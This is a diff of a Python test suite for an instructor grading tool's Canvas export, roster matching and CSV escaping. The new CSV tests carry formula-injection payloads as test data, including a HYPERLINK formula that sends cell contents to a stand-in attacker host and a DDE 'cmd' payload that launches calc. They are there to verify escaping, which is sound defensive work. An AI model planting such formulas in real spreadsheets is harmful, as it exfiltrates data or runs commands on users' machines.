@@ -66,6 +66,8 @@ def test_a_canvas_zip_is_graded_by_canvas_id_with_late_recorded(tmp_path):
     assert manifest["doejohn_102"]["late"] == "yes" and manifest["smithjane_101"]["late"] == "no"
     assert manifest["leeann_103"]["canvas_id"] == "103"
     assert not (tmp_path.parent / "escape_104_9004_ex01_double.ipynb").exists()
+    # titled with the name in Canvas' file names, not the staging folder
+    assert (out / "students" / "doejohn_102" / "feedback.md").read_text().startswith("# Feedback for doejohn\n")
 
 
 def test_a_flat_canvas_folder_never_follows_a_symbolic_link(tmp_path):
@@ -143,3 +145,145 @@ def test_export_canvas_end_to_end_from_a_graded_download(tmp_path):
     assert "Nobody, Ann" in result.stderr and "103" in result.stderr  # both ways of not matching are named
     again = subprocess.run(command, capture_output=True, text=True, timeout=60)
     assert again.returncode == 2 and "exists" in again.stderr  # never overwrites
+
+
+# --- every CSV bnlab writes is spreadsheet-safe ------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\rx", "'quoted"]
+
+
+def test_the_one_csv_writer_escapes_formulas_and_reads_back_what_it_was_given():
+    from bnlab.grading.instructor.spreadsheet import csv_text, read_rows, spreadsheet_safe
+
+    assert [spreadsheet_safe(f)[0] for f in FORMULAS] == ["'"] * len(FORMULAS)
+    assert [spreadsheet_safe(n) for n in ("-1.5", "+2", "3e-4", "Smith, Jane", "")] == ["-1.5", "+2", "3e-4",
+                                                                                       "Smith, Jane", ""]
+    header, rows = read_rows(csv_text([["a", "b"], *([f, f"{i}"] for i, f in enumerate(FORMULAS))]))
+    assert header == ["a", "b"] and [r["a"] for r in rows] == FORMULAS  # the apostrophe is undone on reading
+
+
+def test_no_module_of_bnlab_writes_csv_but_through_the_one_writer():
+    package = Path(__file__).resolve().parents[1] / "bnlab"
+    writers = [str(p.relative_to(package)) for p in package.rglob("*.py")
+               if any(w in p.read_text(encoding="utf-8") for w in ("csv.writer", "DictWriter"))]
+    assert writers == ["grading/instructor/spreadsheet.py"]
+
+
+def _first_cells(text: str) -> list[str]:
+    return [row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))]
+
+
+def test_grades_csv_canvas_csv_and_the_filled_gradebook_escape_every_learner_or_canvas_text(tmp_path):
+    from bnlab.grading.instructor.canvas import CanvasFile, manifest_csv
+    from bnlab.grading.instructor.gradebook import grades_csv
+
+    states = [{"student": f, "points": {"ex01": 1}, "total": 1, "max_total": 4} for f in FORMULAS]
+    assert sorted(_first_cells(grades_csv(states, ["ex01"]))[1:]) == sorted("'" + f for f in FORMULAS)
+    staged = [(CanvasFile("smithjane_101", "101", "-smithjane", False, f), f) for f in ("ex01_x.ipynb", FORMULAS[0])]
+    (row,) = list(csv.DictReader(io.StringIO(manifest_csv(staged))))
+    assert row["files"] == "'" + FORMULAS[0] + "; ex01_x.ipynb" and row["name"] == "'-smithjane"
+    gradebook = tmp_path / "export.csv"
+    gradebook.write_bytes(GRADEBOOK.replace('"Doe, John"', '"=cmd|\' /C calc\'!A0"').replace("8.00,8.00", "-1.50,8.00")
+                          .encode())
+    text, _ = fill_gradebook(gradebook, {"101": 6.0}, 6.0, "12345")
+    rows = _read(text)
+    assert rows[3][0] == "'=cmd|' /C calc'!A0" and rows[3][6] == "-1.50"  # text escaped, numbers left as numbers
+    assert rows[2][5] == "6" and rows[1][0] == "    Points Possible"
+
+
+# --- Canvas from any OUT: folders per student, matched by SIS Login ID, Canvas id or a roster -------
+
+ROSTER = 'folder,id,sis_login_id,name\njsmith,101,jsmith,"Smith, Jane"\nJDoe,102,jdoe,"Doe, John"\n'
+ANY_GRADEBOOK = GRADEBOOK + '"Kept, Ken",198,S198,kken,Section B,5.00,1.00,1.00\r\n'
+
+
+@pytest.fixture(scope="module")
+def graded_folders(tmp_path_factory):
+    """A class collected one folder per student (as on JupyterHub), named by SIS Login ID, graded with a roster."""
+    tmp = tmp_path_factory.mktemp("folders")
+    submissions, out = tmp / "submissions", tmp / "out"
+    fx.notebook(submissions / "jsmith" / "ex01_double.ipynb", [fx.DOUBLE_CELL])
+    fx.notebook(submissions / "jsmith" / "ex02_pair.ipynb", fx.PAIR_CELLS)
+    fx.notebook(submissions / "JDoe" / "ex01_double.ipynb", [WRONG_DOUBLE])
+    fx.notebook(submissions / "carol" / "ex02_pair.ipynb", fx.PAIR_CELLS)  # not in the roster
+    (tmp / "roster.csv").write_text(ROSTER)
+    (tmp / "export.csv").write_bytes(ANY_GRADEBOOK.encode())
+    result = subprocess.run(CLI + ["grade", str(submissions), "--out", str(out), "--roster", str(tmp / "roster.csv"),
+                                   *COURSE, *fx.jail_flags()], capture_output=True, text=True, timeout=120)
+    assert result.returncode == 0, result.stderr
+    return tmp
+
+
+def _export(tmp: Path, name: str, *options: str):
+    filled = tmp / name
+    result = subprocess.run(CLI + ["export", "canvas", "--grades", str(tmp / "out"), "--gradebook",
+                                   str(tmp / "export.csv"), "--out", str(filled), "--assignment", "12345", *options],
+                            capture_output=True, text=True, timeout=60)
+    rows = _read(filled.read_text(encoding="utf-8")) if filled.exists() else []
+    return result, [(r[1], r[5]) for r in rows[2:]]
+
+
+def test_feedback_of_a_rostered_class_is_titled_with_the_students_names(graded_folders):
+    students = graded_folders / "out" / "students"
+    assert (students / "jsmith" / "feedback.md").read_text().startswith("# Feedback for Smith, Jane\n")
+    assert "<title>Feedback for Doe, John</title>" in (students / "JDoe" / "feedback.html").read_text()
+    assert (students / "carol" / "feedback.md").read_text().startswith("# Feedback for carol\n")  # no name: folder
+
+
+def test_export_canvas_matches_folders_named_by_sis_login_id_and_can_write_zero_for_the_missing(graded_folders):
+    result, cells = _export(graded_folders, "by_login.csv", "--match", "sis_login_id")
+    assert result.returncode == 0, result.stderr
+    assert cells == [("101", "6"), ("102", "0"), ("199", ""), ("198", "5.00")]  # JDoe is jdoe: logins ignore case
+    assert "carol" in result.stderr and "Nobody, Ann" in result.stderr and "--missing-zero" in result.stderr
+    result, cells = _export(graded_folders, "zeros.csv", "--match", "sis_login_id", "--missing-zero")
+    assert result.returncode == 0, result.stderr
+    assert cells == [("101", "6"), ("102", "0"), ("199", "0"), ("198", "5.00")]  # a grade already there is kept
+    assert "got 0" in result.stderr and "Nobody, Ann" in result.stderr
+
+
+def test_export_canvas_through_a_roster_by_canvas_id(graded_folders):
+    result, _ = _export(graded_folders, "ambiguous.csv", "--roster", str(graded_folders / "roster.csv"))
+    assert result.returncode == 2 and "--match" in result.stderr and len(result.stderr.splitlines()) == 1
+    result, cells = _export(graded_folders, "by_id.csv", "--roster", str(graded_folders / "roster.csv"), "--match", "id")
+    assert result.returncode == 0, result.stderr
+    assert cells == [("101", "6"), ("102", "0"), ("199", ""), ("198", "5.00")]
+    assert "1 graded folders are not in the roster (not exported): carol" in result.stderr
+
+
+def test_export_canvas_from_folders_says_how_to_match_and_what_a_roster_lacks(graded_folders):
+    result, _ = _export(graded_folders, "none.csv")
+    assert result.returncode == 2 and "not graded from a Canvas download" in result.stderr
+    assert "--roster" in result.stderr and "--match" in result.stderr and not (graded_folders / "none.csv").exists()
+    bad = graded_folders / "bad_roster.csv"
+    bad.write_text("student,login\njsmith,jsmith\n")
+    result, _ = _export(graded_folders, "bad.csv", "--roster", str(bad))
+    assert result.returncode == 2 and "needs a header with the columns folder and one of id" in result.stderr
+    bad.write_text("folder,name\njsmith,Jane\n")  # enough to name feedback, not to match the gradebook
+    result, _ = _export(graded_folders, "bad.csv", "--roster", str(bad))
+    assert result.returncode == 2 and "has no column to match the gradebook by" in result.stderr
+    bad.write_text("folder,id\njsmith,j101\n")
+    result, _ = _export(graded_folders, "bad.csv", "--roster", str(bad))
+    assert result.returncode == 2 and "row 2: id 'j101' is not a Canvas user id" in result.stderr
+
+
+def test_the_canvas_gradebook_export_names_the_students_of_a_canvas_download(tmp_path):
+    gradebook, out = tmp_path / "export.csv", tmp_path / "out"
+    gradebook.write_bytes(GRADEBOOK.encode())
+    result = subprocess.run(CLI + ["grade", str(_canvas_zip(tmp_path)), "--out", str(out), "--roster", str(gradebook),
+                                   *COURSE, *fx.jail_flags()], capture_output=True, text=True, timeout=120)
+    assert result.returncode == 0, result.stderr
+    students = out / "students"
+    assert "<h1>Feedback for Smith, Jane</h1>" in (students / "smithjane_101" / "feedback.html").read_text()
+    assert (students / "doejohn_102" / "feedback.md").read_text().startswith("# Feedback for Doe, John\n")
+    assert (students / "leeann_103" / "feedback.md").read_text().startswith("# Feedback for leeann\n")  # not in it
+
+
+def test_a_roster_of_folders_and_names_is_enough_to_title_feedback(tmp_path):
+    from bnlab.grading.instructor.canvas import student_names
+    from bnlab.grading.instructor.roster import read_roster
+
+    path = tmp_path / "roster.csv"
+    path.write_text('\ufeffFolder , Name\njsmith,"Smith, Jane"\nalee, Ann Lee \n', encoding="utf-8")  # as Excel saves
+    roster = read_roster(path)
+    assert roster.keys == () and student_names(tmp_path, roster, ["jsmith", "alee", "zed"]) == \
+        {"jsmith": "Smith, Jane", "alee": "Ann Lee"}
